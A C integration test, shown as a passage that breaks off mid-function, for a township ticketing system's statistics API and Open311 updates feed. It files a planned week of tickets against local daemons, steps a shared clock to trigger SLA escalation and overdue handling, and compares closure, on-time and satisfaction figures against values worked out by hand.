/* Closure-rate statistics (GET /api/v1/stats, /api/v1/stats.csv) and the Open311
 * servicerequestupdates feed, end to end against a fixture driven through the real daemons.
 *
 * The fixture: intake and router share a clock file. In a corner of 黄花镇 that no other test
 * uses (two groups of 石门村 and one group of 桃花岭村) and in a week no other test uses
 * (2026-03-09..12), the test files ~270 tickets through the native API and takes each through a
 * planned life with staff tokens and residents' ratings, moving the clock so that the router's
 * SLA sweep escalates the tickets left unsigned and marks overdue the ones left unresolved:
 *
 *   T0  Mon 03-09 09:00  batch A filed (received 03-09); accepted, except ESC (left unsigned);
 *                        RET returned, dispatched back, accepted; REJ returned and rejected
 *   T1  Mon 11:00        the quick ones resolved (2 working hours); rated
 *                        satisfied / basic / unsatisfied (a first 不满意 reopens: 重办)
 *   T1b Mon 16:00        ESC (噪声, sign within 4 h: due 15:30) escalated by the sweep; then
 *                        accepted, resolved (4.5 working hours), rated satisfied
 *   T2  Tue 03-10 09:00  batch B filed (received 03-10), accepted
 *   T3  Tue 11:00        B's quick ones resolved (2 h) and rated; A's reopened ones resolved
 *                        again (8.5 h since receipt) and rated for good
 *   T4  Wed 03-11 13:00  LATE (噪声, resolve within 16 h: due Wed 12:00) marked overdue by the
 *                        sweep (escalation, up one level); accepted there and resolved late
 *                        (16 working hours); rated
 *   T5  Thu 03-12 17:00  the router is stopped and the clock moved on, so the tickets still open
 *                        past their deadline stay so: overdue_now counts them
 *
 * Every expected figure is computed here from what the test did (each ticket's planned life,
 * with its contribution worked out by hand in KINDS below), never read back from the tables,
 * and one cell is also checked against literal numbers done on paper. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <fcntl.h>
#include <jansson.h>
#include <math.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "harness.h"

/* ---- the plan ----------------------------------------------------------------------------- */

enum { N_GROUPS = 3, N_CATS = 4 };
static const char *const GROUPS[N_GROUPS] = {"430121-103-06-05", "430121-103-06-08", "430121-103-04-02"};
static const char *const VILLAGE = "430121-103-06";  /* 石门村: groups 0 and 1 */
static const char *const VILLAGE2 = "430121-103-04"; /* 桃花岭村: group 2 */
static const char *const TOWNSHIP = "430121-103";     /* 黄花镇 */
static const char *const COUNTY = "430121";
/* LIGHT, POLICY, AID: the village handles them (sign 8 h, resolve 24/24/40 h);
 * NOISE: the group (sign 4 h, resolve 16 h). */
static const char *const CATS[N_CATS] = {"LIGHT", "POLICY", "NOISE", "AID"};
enum { LIGHT, POLICY, NOISE, AID };

typedef enum {
    A_SAT, A_BASIC, A_UNSAT_FINAL, A_UNSAT_SAT, A_UNRATED, A_RET, A_REJ, A_ESC, A_LATE_SAT, A_LATE_UNRATED,
    A_LATE_REOPEN, A_OPEN, B_SAT, B_BASIC, B_UNRATED, B_REOPEN, B_OPEN, N_KINDS
} kind_t;

typedef struct {
    long long received, resolved, on_time, rated, satisfied, work_s, escalations, returns, overdue;
} exp_t;

/* What one ticket of each kind leaves in the counters by T5, worked out by hand.
 * Working time: 08:30-12:00 and 14:30-17:30 on working days (6.5 h a day).
 *   Mon 09:00 → Mon 11:00 = 2 h = 7200 s;        Mon 09:00 → Mon 16:00 = 3 + 1.5 h = 16200 s
 *   Mon 09:00 → Tue 11:00 = 6 + 2.5 h = 30600 s; Mon 09:00 → Wed 13:00 = 6 + 6.5 + 3.5 h = 57600 s
 *   Tue 09:00 → Tue 11:00 = 7200 s
 * A reopen (first 不满意) takes back what the resolution added; the second resolution adds its
 * own, measured from receipt. A resolution after the ticket went overdue is not on time.
 * overdue (overdue_now at T5, Thu 17:00; only for the categories named):
 *   A_OPEN LIGHT/POLICY: due Mon 09:00 + 24 h = Thu 16:00 (yes); AID + 40 h = next Tue (no)
 *   B_OPEN NOISE: Tue 09:00 + 16 h = Thu 12:00 (yes); LIGHT/POLICY Fri 16:00, AID later (no)
 *   B_REOPEN NOISE: reopened Tue 11:00 + 16 h = Thu 16:30 (yes); others next week (no)
 *   A_LATE_REOPEN: reopened Wed 13:00 + 16 h = Fri 17:30 (no) */
static const struct {
    const char *name;
    char batch;
    exp_t e;
    unsigned overdue_cats; /* bit per category */
} KINDS[N_KINDS] = {
    [A_SAT] = {"A_SAT", 'A', {1, 1, 1, 1, 1, 7200, 0, 0, 0}, 0},
    [A_BASIC] = {"A_BASIC", 'A', {1, 1, 1, 1, 1, 7200, 0, 0, 0}, 0},
    [A_UNSAT_FINAL] = {"A_UNSAT_FINAL", 'A', {1, 1, 1, 1, 0, 30600, 0, 0, 0}, 0},
    [A_UNSAT_SAT] = {"A_UNSAT_SAT", 'A', {1, 1, 1, 1, 1, 30600, 0, 0, 0}, 0},
    [A_UNRATED] = {"A_UNRATED", 'A', {1, 1, 1, 0, 0, 7200, 0, 0, 0}, 0},
    [A_RET] = {"A_RET", 'A', {1, 1, 1, 1, 1, 7200, 0, 1, 0}, 0},
    [A_REJ] = {"A_REJ", 'A', {1, 0, 0, 0, 0, 0, 0, 1, 0}, 0},
    [A_ESC] = {"A_ESC", 'A', {1, 1, 1, 1, 1, 16200, 1, 0, 0}, 0},
    [A_LATE_SAT] = {"A_LATE_SAT", 'A', {1, 1, 0, 1, 1, 57600, 1, 0, 0}, 0},
    [A_LATE_UNRATED] = {"A_LATE_UNRATED", 'A', {1, 1, 0, 0, 0, 57600, 1, 0, 0}, 0},
    [A_LATE_REOPEN] = {"A_LATE_REOPEN", 'A', {1, 0, 0, 0, 0, 0, 1, 0, 0}, 0},
    [A_OPEN] = {"A_OPEN", 'A', {1, 0, 0, 0, 0, 0, 0, 0, 0}, 1u << LIGHT | 1u << POLICY},
    [B_SAT] = {"B_SAT", 'B', {1, 1, 1, 1, 1, 7200, 0, 0, 0}, 0},
    [B_BASIC] = {"B_BASIC", 'B', {1, 1, 1, 1, 1, 7200, 0, 0, 0}, 0},
    [B_UNRATED] = {"B_UNRATED", 'B', {1, 1, 1, 0, 0, 7200, 0, 0, 0}, 0},
    [B_REOPEN] = {"B_REOPEN", 'B', {1, 0, 0, 0, 0, 0, 0, 0, 0}, 1u << NOISE},
    [B_OPEN] = {"B_OPEN", 'B', {1, 0, 0, 0, 0, 0, 0, 0, 0}, 1u << NOISE},
};

/* How many tickets of a kind in group g, category c. */
static int how_many(kind_t k, int g, int c)
{
    switch (k) {
    case A_SAT: return 3 + g + c;
    case A_BASIC: return 2 + c % 2;
    case A_UNSAT_FINAL: return 1;
    case A_UNSAT_SAT: return g == 0 ? 2 : 1;
    case A_UNRATED: return 2 + g;
    case A_RET: return c <= POLICY ? 1 : 0;
    case A_REJ: return g == 1 && c == AID ? 1 : 0;
    case A_ESC: return c == NOISE ? 2 + g : 0;
    case A_LATE_SAT: return c == NOISE ? 2 : 0;
    case A_LATE_UNRATED: return c == NOISE ? 1 + g : 0;
    case A_LATE_REOPEN: return c == NOISE ? 1 : 0;
    case A_OPEN: return c == NOISE ? 0 : 2;
    case B_SAT: return 2 + c;
    case B_BASIC: return 1 + g;
    case B_UNRATED: return 1;
    case B_REOPEN: return 1;
    case B_OPEN: return g == 2 ? 2 : 1;
    case N_KINDS: break;
    }
    return 0;
}

typedef struct {
    char code[24];
    char phone[16];
    char rating_code[16]; /* from the POST answer: what proves a rating is the reporter's */
    int g, c;
    kind_t kind;
    bool by_point;
} ticket_t;

#define MAX_TICKETS 400
static ticket_t T[MAX_TICKETS];
static int n_t;
static char g_dup[24]; /* the duplicate (merged, counts nowhere) */

/* ---- environment -------------------------------------------------------------------------- */

static pid_t g_intake, g_router;
static PGconn *g_db;
static char g_key[80], g_clock[1024];
static int g_http;
static char tok_op[64], tok_sup[64], tok_sup2[64], tok_vh[64];
static long long g_now; /* the clock file's time, epoch seconds */

/* Epoch seconds of a +08:00 local time in March 2026. */
static long long local_time(int day, int hh, int mm)
{
    /* 2026-03-01T00:00:00+08:00 = 1772294400 */
    return 1772294400LL + (long long)(day - 1) * 86400 + hh * 3600 + mm * 60;
}

static void set_clock(long long s)
{
    char tmp[1100];
    snprintf(tmp, sizeof tmp, "%s.tmp", g_clock);
    FILE *f = fopen(tmp, "w");
    assert_non_null(f);
    fprintf(f, "%lld\n", s);
    fclose(f);
    assert_int_equal(rename(tmp, g_clock), 0);
    /* the daemons re-read the file when its mtime changes: make each change visible */
    struct timespec ts[2] = {{s, 0}, {s, 0}};
    assert_int_equal(utimensat(AT_FDCWD, g_clock, ts, 0), 0);
    g_now = s;
}

static void issue_token(const char *staff_sql, char out[64], const char *name)
{
    char *id = h_sql_text(g_db, staff_sql, 0, NULL);
    if (!*id)
        fail_msg("no staff for %s", staff_sql);
    snprintf(out, 64, "stats-%s-%d", name, (int)getpid());
    const char *p[] = {out, id};
    PQclear(PQexecParams(g_db,
                         "INSERT INTO registry.staff_token (token_sha256, staff_id)"
                         " VALUES (sha256(convert_to($1, 'UTF8')), $2::bigint)",
                         2, NULL, p, NULL, NULL, 0));
    free(id);
}

static int setup(void **state)
{
    (void)state;
    g_db = h_db();
    char *k = h_api_key(g_db);
    snprintf(g_key, sizeof g_key, "%s", k);
    free(k);
    snprintf(g_clock, sizeof g_clock, "%s/stats-clock", h_env("GRIDGOV_TEST_VAR"));
    set_clock(local_time(9, 9, 0));
    static char clock_env[1100], router_env[96];
    snprintf(clock_env, sizeof clock_env, "GRIDGOV_CLOCK_FILE=%s", g_clock);
    snprintf(router_env, sizeof router_env, "GRIDGOV_ROUTER_ENDPOINT=tcp://127.0.0.1:%d", h_port(72));
    /* the fixture files ~270 tickets from one key in a few seconds: over the per-key rate limit,
     * which is not what this test is about (test_limits is) */
    const char *env[] = {clock_env, router_env, "GRIDGOV_RATE_LIMIT_PER_MINUTE=0", NULL};
    g_http = h_port(70);
    g_intake = h_start_intake(g_http, h_port(71), env);
    g_router = h_start_router(h_port(72), h_port(71), env);
    issue_token("SELECT id FROM registry.staff WHERE role = 'operator' ORDER BY id LIMIT 1", tok_op, "op");
    issue_token("SELECT id FROM registry.staff WHERE role = 'supervisor' AND unit_id = 103 ORDER BY id LIMIT 1", tok_sup,
                "sup103");
    issue_token("SELECT id FROM registry.staff WHERE role = 'supervisor' AND unit_id = 102 ORDER BY id LIMIT 1",
                tok_sup2, "sup102");
    issue_token("SELECT s.id FROM registry.staff s JOIN registry.unit u ON u.id = s.unit_id"
                " WHERE s.role = 'handler' AND u.code = '430121-103-06' ORDER BY s.id LIMIT 1",
                tok_vh, "vh");
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    int s1 = g_router ? h_stop(g_router, SIGTERM) : 0, s2 = h_stop(g_intake, SIGTERM);
    PQfinish(g_db);
    return WIFEXITED(s1) && WEXITSTATUS(s1) == 0 && WIFEXITED(s2) && WEXITSTATUS(s2) == 0 ? 0 : -1;
}

/* ---- HTTP --------------------------------------------------------------------------------- */

/* GET/POST path on intake. token: staff bearer token or NULL; api_key: X-API-Key or NULL. */
static long call(const char *method, const char *path, const char *token, bool api_key, const char *body,
                 h_resp_t *r)
{
    char url[1024], auth[128], key[128];
    snprintf(url, sizeof url, "http://127.0.0.1:%d%s", g_http, path);
    snprintf(auth, sizeof auth, "Authorization: Bearer %s", token ? token : "");
    snprintf(key, sizeof key, "X-API-Key: %s", g_key);
    const char *hdr[4] = {NULL};
    int n = 0;
    if (body)
        hdr[n++] = "Content-Type: application/json";
    if (token)
        hdr[n++] = auth;
    if (api_key)
        hdr[n++] = key;
    if (!h_http(method, url, hdr, body, body ? strlen(body) : 0, r))
        fail_msg("%s %s: transport failure", method, path);
    return r->status;
}

static json_t *get_json(const char *path, const char *token, long want)
{
    h_resp_t r;
    long st = call("GET", path, token, false, NULL, &r);
    if (st != want)
        fail_msg("GET %s -> %ld (want %ld): %s", path, st, want, buf_str(&r.body));
    json_error_t je;
    json_t *j = json_loads(buf_str(&r.body), 0, &je);
    if (!j)
        fail_msg("GET %s: not JSON: %s", path, buf_str(&r.body));
    h_resp_free(&r);
    return j;
}

/* Files a ticket; the reporter's rating code goes to rating_code when given. */
static const char *post_ticket(const char *body, char rating_code[16])
{
    static char code[24];
    h_resp_t r;
    long st = call("POST", "/api/v1/tickets", NULL, true, body, &r);
    if (st != 201)
        fail_msg("POST %s -> %ld %s", body, st, buf_str(&r.body));
    json_error_t je;
    json_t *j = json_loads(buf_str(&r.body), 0, &je);
    snprintf(code, sizeof code, "%s", json_string_value(json_object_get(j, "code")));
    if (rating_code) {
        const char *rc = json_string_value(json_object_get(j, "rating_code"));
        if (!rc)
            fail_msg("POST %s: no rating_code in %s", body, buf_str(&r.body));
        snprintf(rating_code, 16, "%s", rc);
    }
    json_decref(j);
    h_resp_free(&r);
    return code;
}

static void act(const ticket_t *t, const char *action, const char *note)
{
    char path[128], body[256];
    snprintf(path, sizeof path, "/api/v1/tickets/%s/actions/%s", t->code, action);
    snprintf(body, sizeof body, "{\"note\":\"%s\"}", note);
    h_resp_t r;
    long st = call("POST", path, tok_op, false, body, &r);
    if (st != 200)
        fail_msg("%s %s (%s) -> %ld %s", action, t->code, KINDS[t->kind].name, st, buf_str(&r.body));
    h_resp_free(&r);
}

static void rate(const ticket_t *t, const char *rating)
{
    char path[128], body[128];
    snprintf(path, sizeof path, "/api/v1/tickets/%s/rating", t->code);
    snprintf(body, sizeof body, "{\"rating\":\"%s\",\"rating_code\":\"%s\"}", rating, t->rating_code);
    h_resp_t r;
    long st = call("POST", path, NULL, true, body, &r);
    if (st != 200)
        fail_msg("rate %s %s (%s) -> %ld %s", rating, t->code, KINDS[t->kind].name, st, buf_str(&r.body));
    h_resp_free(&r);
}

/* ---- SQL checks --------------------------------------------------------------------------- */

/* The codes of the tickets matching a kind (or all when kind < 0), as a PostgreSQL array. */
static void codes_of(int kind, buf_t *b)
{
    buf_reset(b);
    buf_putc(b, '{');
    for (int i = 0, n = 0; i < n_t; i++)
        if (kind < 0 || (int)T[i].kind == kind)
            buf_printf(b, "%s%s", n++ ? "," : "", T[i].code);
    buf_putc(b, '}');
}

static int count_kind(int kind)
{
    int n = 0;
    for (int i = 0; i < n_t; i++)
        n += kind < 0 || (int)T[i].kind == kind;
    return n;
}

/* The same, of the categories whose notes and ratings the public reads: AID (社会救助) is
 * private in the demo county, and its updates say only the state (README, "Residents' data"). */
static int count_kind_public(int kind)
{
    int n = 0;
    for (int i = 0; i < n_t; i++)
        n += (int)T[i].kind == kind && T[i].c != AID;
    return n;
}

static void wait_count(const char *what, const char *sql, int kind, long long want)
{
    buf_t b = BUF_INIT;
    codes_of(kind, &b);
    char now[32];
    snprintf(now, sizeof now, "%lld", g_now);
    const char *p[] = {buf_str(&b), now};
    if (!h_wait_sql(g_db, sql, 2, p, want, 30000))
        fail_msg("%s: want %lld, have %lld", what, want, h_sql_int(g_db, sql, 2, p));
    buf_free(&b);
}

/* After the clock moved: wait until the router's sweep has handled every deadline of ours that
 * passed (no open ticket past its resolve deadline, none unsigned past its sign deadline). */
static void wait_settled(void)
{
    wait_count("tickets past a deadline the sweep has not handled",
               "SELECT count(*) FROM router.ticket WHERE code = ANY ($1::text[]) AND ("
               " (state IN ('assigned', 'accepted', 'in_progress') AND resolve_due <= to_timestamp($2::float8))"
               " OR (state = 'assigned' AND sign_due <= to_timestamp($2::float8)))",
               -1, 0);
}

/* ---- the fixture -------------------------------------------------------------------------- */

static const char *attrs_of(int c)
{
    switch (c) {
    case LIGHT: return ",\"attributes\":{\"fault_type\":\"off\"}";
    case NOISE: return ",\"attributes\":{\"source\":\"music\"}";
    default: return "";
    }
}

/* A point inside the group at least 300 m from every ticket of the category filed by a point so
 * far (other tests file by points too), so that only the duplicate this test files on purpose is
 * one: candidates on a 20 x 20 grid over the group's box, the first that qualifies. */
static char *free_point(const char *group, const char *category)
{
    const char *p[] = {group, category};
    char *s = h_sql_text(g_db,
                         "SELECT format('\"lat\":%s,\"long\":%s', round(ST_Y(c.pt)::numeric, 7), round(ST_X(c.pt)::numeric, 7))"
                         " FROM registry.unit u, generate_series(0, 19) i, generate_series(0, 19) j,"
                         " LATERAL (SELECT ST_SetSRID(ST_MakePoint("
                         "   ST_XMin(u.boundary) + (ST_XMax(u.boundary) - ST_XMin(u.boundary)) * (i + 0.5) / 20,"
                         "   ST_YMin(u.boundary) + (ST_YMax(u.boundary) - ST_YMin(u.boundary)) * (j + 0.5) / 20), 4326) AS pt) c"
                         " WHERE u.code = $1 AND ST_Covers(u.boundary, c.pt) AND NOT EXISTS (SELECT 1 FROM intake.ticket t"
                         "  WHERE t.service_code = $2 AND t.lat IS NOT NULL AND ST_DWithin(c.pt::geography,"
                         "   ST_SetSRID(ST_MakePoint(t.long, t.lat), 4326)::geography, 300))"
                         " ORDER BY i, j LIMIT 1",
                         2, p);
    if (!*s)
        fail_msg("no free point in %s for %s", group, category);
    return s;
}

static char g_dup_point[160]; /* where the first ticket by a point in group 0 was filed */

/* Files one ticket of group g, category c: by the household (address_id) or by a point. */
static void file_one(int g, int c, kind_t k, bool by_point)
{
    if (n_t >= MAX_TICKETS)
        fail_msg("too many tickets in the plan");
    ticket_t *t = &T[n_t];
    *t = (ticket_t){.g = g, .c = c, .kind = k, .by_point = by_point};
    snprintf(t->phone, sizeof t->phone, "1391%07d", 4000000 + n_t);
    char where[160], body[512];
    if (by_point) {
        char *pt = free_point(GROUPS[g], CATS[c]);
        snprintf(where, sizeof where, "%s", pt);
        if (g == 0)
            snprintf(g_dup_point, sizeof g_dup_point, "%s", pt);
        free(pt);
    } else {
        /* the households of the group in turn */
        char off[16];
        snprintf(off, sizeof off, "%d", n_t % 20);
        const char *p[] = {GROUPS[g], off};
        char *hh = h_sql_text(g_db,
                              "SELECT h.code FROM registry.household h JOIN registry.unit u ON u.id = h.group_id"
                              " WHERE u.code = $1 ORDER BY h.id OFFSET $2::int LIMIT 1",
                              2, p);
        snprintf(where, sizeof where, "\"address_id\":\"%s\"", hh);
        free(hh);
    }
    snprintf(body, sizeof body, "{\"service_code\":\"%s\",%s,\"phone\":\"%s\",\"description\":\"统计测试 %s\"%s}",
             CATS[c], where, t->phone, KINDS[k].name, attrs_of(c));
    snprintf(t->code, sizeof t->code, "%s", post_ticket(body, t->rating_code));
    n_t++;
}

static void file_batch(char batch)
{
    for (int g = 0; g < N_GROUPS; g++)
        for (int c = 0; c < N_CATS; c++)
            for (int k = 0; k < N_KINDS; k++) {
                if (KINDS[k].batch != batch)
                    continue;
                for (int i = 0; i < how_many((kind_t)k, g, c); i++) {
                    /* a few placed by their point, not by a household */
                    bool pt = batch == 'A' && k == A_SAT && i == 0 &&
                              ((g == 0 && c == POLICY) || (g == 1 && c == LIGHT) || (g == 2 && c == NOISE));
                    file_one(g, c, (kind_t)k, pt);
                }
            }
}

static void wait_routed(void)
{
    wait_count("tickets routed", "SELECT count(*) FROM router.ticket WHERE code = ANY ($1::text[]) AND $2 <> ''", -1,
               n_t);
}

/* Runs fn on every ticket of a kind. */
#define EACH(k, body)                                                                                 \
    for (int i_ = 0; i_ < n_t; i_++)                                                                  \
        if (T[i_].kind == (k)) {                                                                      \
            const ticket_t *t = &T[i_];                                                               \
            body;                                                                                     \
        }

static void fixture_runs_through_the_week(void **state)
{
    (void)state;
    /* T0 Mon 09:00: batch A, and a duplicate of the ticket placed by its point in group 0 */
    file_batch('A');
    wait_routed();
    char body[512];
    snprintf(body, sizeof body, "{\"service_code\":\"POLICY\",%s,\"phone\":\"13914999999\",\"description\":\"同一件事\"}",
             g_dup_point);
    snprintf(g_dup, sizeof g_dup, "%s", post_ticket(body, NULL));
    const char *dp[] = {g_dup};
    assert_true(h_wait_sql(g_db, "SELECT count(*) FROM router.ticket WHERE code = $1 AND state = 'merged'", 1, dp, 1, 20000));
    for (int i = 0; i < n_t; i++)
        if (T[i].by_point && T[i].g == 0) {
            const char *mp[] = {g_dup, T[i].code};
            assert_int_equal(h_sql_int(g_db, "SELECT count(*) FROM router.ticket t JOIN router.ticket o"
                                             " ON o.ticket_id = t.merged_into WHERE t.code = $1 AND o.code = $2", 2, mp), 1);
        }
    /* every ticket sits in its group, held where its category says */
    for (int i = 0; i < n_t; i++) {
        const char *p[] = {T[i].code, GROUPS[T[i].g], T[i].c == NOISE ? "group" : "village"};
        if (h_sql_int(g_db,
                      "SELECT count(*) FROM router.ticket t JOIN registry.unit g ON g.id = t.group_id"
                      " JOIN registry.unit h ON h.id = t.unit_id WHERE t.code = $1 AND g.code = $2 AND h.level = $3"
                      " AND t.state = 'assigned'",
                      3, p) != 1)
            fail_msg("ticket %s (%s) is not where it belongs", T[i].code, KINDS[T[i].kind].name);
    }
    for (int i = 0; i < n_t; i++) {
        const ticket_t *t = &T[i];
        if (t->kind == A_ESC)
            continue;
        if (t->kind == A_RET || t->kind == A_REJ) {
            act(t, "return", "不属于本村办理范围");
            if (t->kind == A_REJ) {
                act(t, "reject", "不属于受理范围");
                continue;
            }
            act(t, "dispatch", "重新派单");
        }
        act(t, "accept", "已签收");
        if (t->kind == A_SAT)
            act(t, "start", "开始办理");
    }

    /* T1 Mon 11:00: the quick ones resolved and rated */
    set_clock(local_time(9, 11, 0));
    wait_settled();
    static const kind_t quick_a[] = {A_SAT, A_BASIC, A_UNSAT_FINAL, A_UNSAT_SAT, A_UNRATED, A_RET};
    for (size_t q = 0; q < sizeof quick_a / sizeof quick_a[0]; q++)
        EACH(quick_a[q], act(t, "resolve", "已处理完毕"));
    EACH(A_SAT, rate(t, "satisfied"));
    EACH(A_BASIC, rate(t, "basic"));
    EACH(A_RET, rate(t, "basic"));
    EACH(A_UNSAT_FINAL, rate(t, "unsatisfied"));
    EACH(A_UNSAT_SAT, rate(t, "unsatisfied"));
    wait_count("reopened (重办)", "SELECT count(*) FROM router.ticket WHERE code = ANY ($1::text[]) AND $2 <> ''"
               " AND state = 'in_progress' AND reopened = 1", A_UNSAT_FINAL, count_kind(A_UNSAT_FINAL));

    /* T1b Mon 16:00: the unsigned noise tickets (sign within 4 h, due 15:30) climb to the village */
    set_clock(local_time(9, 16, 0));
    wait_count("escalated", "SELECT count(*) FROM router.ticket t JOIN registry.unit u ON u.id = t.unit_id"
               " WHERE t.code = ANY ($1::text[]) AND $2 <> '' AND t.escalations = 1 AND u.level = 'village'"
               " AND t.state = 'assigned'", A_ESC, count_kind(A_ESC));
    wait_settled();
    EACH(A_ESC, act(t, "accept", "已签收"));
    EACH(A_ESC, act(t, "resolve", "已协调处理"));
    EACH(A_ESC, rate(t, "satisfied"));

    /* T2 Tue 09:00: batch B */
    set_clock(local_time(10, 9, 0));
    wait_settled();
    int before = n_t;
    file_batch('B');
    wait_routed();
    for (int i = before; i < n_t; i++) {
        act(&T[i], "accept", "已签收");
        if (T[i].kind == B_SAT)
            act(&T[i], "start", "开始办理");
    }

    /* T3 Tue 11:00: B's quick ones; A's reopened ones resolved again and rated for good */
    set_clock(local_time(10, 11, 0));
    wait_settled();
    static const kind_t quick_b[] = {B_SAT, B_BASIC, B_UNRATED, B_REOPEN, A_UNSAT_FINAL, A_UNSAT_SAT};
    for (size_t q = 0; q < sizeof quick_b / sizeof quick_b[0]; q++)
        EACH(quick_b[q], act(t, "resolve", "已处理完毕"));
    EACH(B_SAT, rate(t, "satisfied"));
    EACH(B_BASIC, rate(t, "basic"));
    EACH(B_REOPEN, rate(t, "unsatisfied"));
    EACH(A_UNSAT_FINAL, rate(t, "unsatisfied"));
    EACH(A_UNSAT_SAT, rate(t, "satisfied"));
    wait_count("closed after the second rating", "SELECT count(*) FROM router.ticket WHERE code = ANY ($1::text[])"
               " AND $2 <> '' AND state = 'closed' AND rating = 'unsatisfied'", A_UNSAT_FINAL, count_kind(A_UNSAT_FINAL));

    /* T4 Wed 13:00: the late ones (resolve within 16 h, due Wed 12:00) go overdue */
    set_clock(local_time(11, 13, 0));
    static const kind_t late[] = {A_LATE_SAT, A_LATE_UNRATED, A_LATE_REOPEN};
    for (size_t q = 0; q < 3; q++)
        wait_count("overdue", "SELECT count(*) FROM router.ticket t JOIN registry.unit u ON u.id = t.unit_id"
                   " WHERE t.code = ANY ($1::text[]) AND $2 <> '' AND t.overdue AND t.escalations = 1"
                   " AND u.level = 'village' AND t.state = 'assigned'", late[q], count_kind(late[q]));
    wait_settled();
    for (size_t q = 0; q < 3; q++) {
        EACH(late[q], act(t, "accept", "已签收"));
        EACH(late[q], act(t, "resolve", "超期后办结"));
    }
    EACH(A_LATE_SAT, rate(t, "satisfied"));
    EACH(A_LATE_REOPEN, rate(t, "unsatisfied"));
    wait_settled();
    /* with the sweep running nothing stays past its deadline: overdue_now is 0 */
    json_t *j = get_json("/api/v1/stats?unit=430121-103&from=2026-03-09&to=2026-03-12", tok_op, 200);
    assert_int_equal(json_integer_value(json_object_get(json_object_get(j, "total"), "overdue_now")), 0);
    json_decref(j);
}

/* ---- expected figures --------------------------------------------------------------------- */

typedef struct {
    int group;     /* -1 any */
    int village;   /* 0 VILLAGE, 1 VILLAGE2, -1 any */
    int cat;       /* -1 any */
    char batch;    /* 0 any */
} filter_t;

static exp_t expected(filter_t f)
{
    exp_t e = {0};
    for (int i = 0; i < n_t; i++) {
        const ticket_t *t = &T[i];
        if ((f.group >= 0 && t->g != f.group) || (f.village >= 0 && (t->g == 2) != (f.village == 1)) ||
            (f.cat >= 0 && t->c != f.cat))
            continue;
        const exp_t *k = &KINDS[t->kind].e;
        /* overdue_now is live: not limited to the period */
        if (KINDS[t->kind].overdue_cats & (1u << t->c))
            e.overdue++;
        if (f.batch && KINDS[t->kind].batch != f.batch)
            continue;
        e.received += k->received;
        e.resolved += k->resolved;
        e.on_time += k->on_time;
        e.rated += k->rated;
        e.satisfied += k->satisfied;
        e.work_s += k->work_s;
        e.escalations += k->escalations;
        e.returns += k->returns;
    }
    return e;
}

static json_t *rate_of(long long num, long long den, double scale)
{
    return den ? json_real((double)llround((double)num * scale / (double)den) / scale) : json_null();
}

/* Compares a row (or total) of the API with the expected figures, field by field. */
static void check_row(const json_t *row, const exp_t *e, const char *label)
{
    const struct {
        const char *k;
        long long v;
    } ints[] = {{"received", e->received},     {"resolved", e->resolved}, {"resolved_on_time", e->on_time},
                {"rated", e->rated},           {"satisfied", e->satisfied}, {"resolve_work_s", e->work_s},
                {"escalations", e->escalations}, {"returns", e->returns}, {"overdue_now", e->overdue}};
    for (size_t i = 0; i < sizeof ints / sizeof ints[0]; i++) {
        json_t *v = json_object_get(row, ints[i].k);
        if (!json_is_integer(v) || json_integer_value(v) != ints[i].v)
            fail_msg("%s: %s is %lld, want %lld", label, ints[i].k, (long long)json_integer_value(v), ints[i].v);
    }
    const struct {
        const char *k;
        json_t *want;
    } rates[] = {{"closure_rate", rate_of(e->resolved, e->received, 1e4)},
                 {"on_time_rate", rate_of(e->on_time, e->resolved, 1e4)},
                 {"satisfaction_rate", rate_of(e->satisfied, e->rated, 1e4)},
                 {"avg_resolve_work_hours", rate_of(e->work_s, e->resolved * 3600, 1e2)}};
    for (size_t i = 0; i < 4; i++) {
        json_t *v = json_object_get(row, rates[i].k);
        bool ok = json_is_null(rates[i].want) ? json_is_null(v)
                                              : json_is_number(v) && fabs(json_number_value(v) -
                                                                          json_real_value(rates[i].want)) < 1e-9;
        if (!ok) {
            char *got = json_dumps(v, JSON_ENCODE_ANY), *want = json_dumps(rates[i].want, JSON_ENCODE_ANY);
            fail_msg("%s: %s is %s, want %s", label, rates[i].k, got ? got : "(absent)", want);
        }
        json_decref(rates[i].want);
    }
}

static const json_t *row_by_code(const json_t *doc, const char *code)
{
    size_t i;
    json_t *r;
    json_array_foreach(json_object_get(doc, "rows"), i, r) if (!strcmp(json_string_value(json_object_get(r, "code")), code)) return r;
    fail_msg("no row %s", code);
    return NULL;
}

static const exp_t ZERO = {0};

/* ---- tests: the feed (at T4, the router still running) ------------------------------------ */

/* The statuses the feed lists for one ticket, in order, joined by spaces. */
static void statuses_of(json_t *items, const char *code, buf_t *out)
{
    size_t i;
    json_t *u;
    json_array_foreach(items, i, u)
    {
        if (strcmp(json_string_value(json_object_get(u, "service_request_id")), code))
            continue;
        buf_printf(out, "%s%s", out->len ? " " : "", json_string_value(json_object_get(u, "status")));
    }
}

/* Every update in the window, all pages. */
static json_t *all_updates(const char *fmt_query)
{
    json_t *all = json_array();
    for (int page = 1;; page++) {
        char path[512];
        snprintf(path, sizeof path, "/open311/v2/servicerequestupdates.json?%s&page=%d&page_size=200", fmt_query, page);
        json_t *j = get_json(path, NULL, 200);
        assert_true(json_is_array(j));
        size_t n = json_array_size(j);
        json_array_extend(all, j);
        json_decref(j);
        if (n < 200)
            break;
    }
    return all;
}

static const ticket_t *first_of(kind_t k)
{
    for (int i = 0; i < n_t; i++)
        if (T[i].kind == k)
            return &T[i];
    fail_msg("no ticket of kind %s", KINDS[k].name);
    return NULL;
}

static void updates_feed_lists_the_transitions(void **state)
{
    (void)state;
    json_t *all = all_updates("start_date=2026-03-09T00:00:00%2B08:00&end_date=2026-03-12T00:00:00%2B08:00");
    const struct {
        const char *code;
        const char *want;
    } cases[] = {
        {first_of(A_SAT)->code, "open open in_progress fixed closed"},
        {first_of(A_UNSAT_FINAL)->code, "open open fixed reopen fixed closed"},
        {first_of(A_RET)->code, "open internal_referral open open fixed closed"},
        {first_of(A_REJ)->code, "open internal_referral not_councils_responsibility"},
        {first_of(A_ESC)->code, "open open open fixed closed"},
        {first_of(A_LATE_REOPEN)->code, "open open open open fixed reopen"},
        {first_of(B_OPEN)->code, "open open"},
        {g_dup, "duplicate"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        buf_t b = BUF_INIT;
        statuses_of(all, cases[i].code, &b);
        if (strcmp(buf_str(&b), cases[i].want))
            fail_msg("updates of %s: '%s', want '%s'", cases[i].code, buf_str(&b), cases[i].want);
